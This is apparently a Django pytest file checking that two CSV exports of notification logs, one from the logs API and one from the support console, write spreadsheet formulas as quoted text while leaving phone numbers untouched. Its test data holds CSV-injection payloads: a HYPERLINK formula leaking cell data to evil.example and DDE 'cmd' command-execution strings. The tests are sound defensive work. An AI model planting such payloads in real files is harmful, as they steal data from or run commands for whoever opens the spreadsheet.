"""Issue 16, item 9, as a hostile tenant tries it: send notifications whose user id and
addresses are spreadsheet formulas (through the real send API), then have support export the
log from the console and an integrator from the logs API. Both CSVs carry the formula as text
(a leading quote), by one rule, while a plain E.164 number stays as it is."""

import base64
import csv
import io
import json

import pytest
from django.core.cache import caches

from accounts.models import Membership
from tests.console.conftest import console_user
from tests.factories import EnvironmentFactory
from tests.notifications.factories import ChannelTemplateFactory, NotificationTypeFactory

pytestmark = pytest.mark.django_db
SECRET = "hostile-tenant-secret-0123456789"
HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A2,"Open the reset page")'
# Each starts as a spreadsheet evaluates it: =, +, -, @, a tab, a carriage return.
FORMULAS = [
    HYPERLINK,
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
PHONE = "+447700900123"
# A valid address ('=' and '+' are allowed in the local part) that a spreadsheet evaluates.
EMAIL = "=1+1@evil.example"


@pytest.fixture(autouse=True)
def _fresh_rate_limits():
    caches["default"].clear()


@pytest.fixture
def environment():
    environment = EnvironmentFactory(client_secret=SECRET)
    notification_type = NotificationTypeFactory(environment=environment, key="password_reset")
    ChannelTemplateFactory(notification_type=notification_type, channel="sms", subject="",
                           html="", text="Reset: {{ link }}")  # fmt: skip
    return environment


def _auth(environment) -> dict:
    token = base64.b64encode(f"{environment.client_id}:{SECRET}".encode()).decode()
    return {"authorization": f"Basic {token}"}


def _send(client, environment, user: dict) -> None:
    body = {"notificationId": "password_reset", "user": user,
            "mergeTags": {"link": HYPERLINK}}  # fmt: skip
    response = client.post(
        f"/{environment.client_id}/sender", data=json.dumps(body),
        content_type="application/json", headers=_auth(environment),
    )  # fmt: skip
    assert response.status_code in (200, 202), response.content


@pytest.fixture
def hostile_rows(client, environment):
    for user_id in FORMULAS:
        _send(client, environment, {"id": user_id, "number": PHONE})
    # A formula in the email address too, where the send API accepts one.
    _send(client, environment, {"id": "usr_plain", "email": EMAIL, "number": PHONE})


def _cells(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


def _assert_no_cell_runs(rows: list[dict]) -> None:
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or cell == PHONE, (
                column,
                cell,
            )


def test_the_logs_api_csv_export_writes_formulas_as_text(client, environment, hostile_rows):
    response = client.get("/api/v1/logs/export", {"format": "csv"}, headers=_auth(environment))
    assert response.status_code == 200
    rows = _cells(b"".join(response.streaming_content).decode())

    assert sorted(row["userId"] for row in rows) == sorted(
        ["'" + formula for formula in FORMULAS] + ["usr_plain"]
    )
    assert {row["number"] for row in rows} == {PHONE}  # a phone number is not a formula
    assert {row["email"] for row in rows} == {"", "'" + EMAIL}
    _assert_no_cell_runs(rows)


def test_the_console_csv_export_writes_formulas_as_text(client, environment, hostile_rows):
    client.force_login(console_user(environment, role=Membership.Role.SUPPORT))

    response = client.get("/admin/logs/notification/export.csv", {"environment": environment.id})
    assert response.status_code == 200
    rows = _cells(b"".join(response.streaming_content).decode())

    assert sorted(row["user_id"] for row in rows) == sorted(
        ["'" + formula for formula in FORMULAS] + ["usr_plain"]
    )
    assert {row["number"] for row in rows} == {PHONE}  # was '+447700900123, unreadable
    assert {row["email"] for row in rows} == {"", "'" + EMAIL}
    _assert_no_cell_runs(rows)


def test_both_exports_write_the_same_cells(client, environment, hostile_rows):
    api = _cells(
        b"".join(
            client.get(
                "/api/v1/logs/export", {"format": "csv"}, headers=_auth(environment)
            ).streaming_content
        ).decode()
    )
    client.force_login(console_user(environment, role=Membership.Role.SUPPORT))
    console = _cells(
        b"".join(
            client.get(
                "/admin/logs/notification/export.csv", {"environment": environment.id}
            ).streaming_content
        ).decode()
    )
    by_id = {row["tracking_id"]: row for row in console}
    assert len(api) == len(console) == len(FORMULAS) + 1
    for row in api:
        mine = by_id[row["trackingId"]]
        assert (row["userId"], row["email"], row["number"]) == (
            mine["user_id"],
            mine["email"],
            mine["number"],
        )
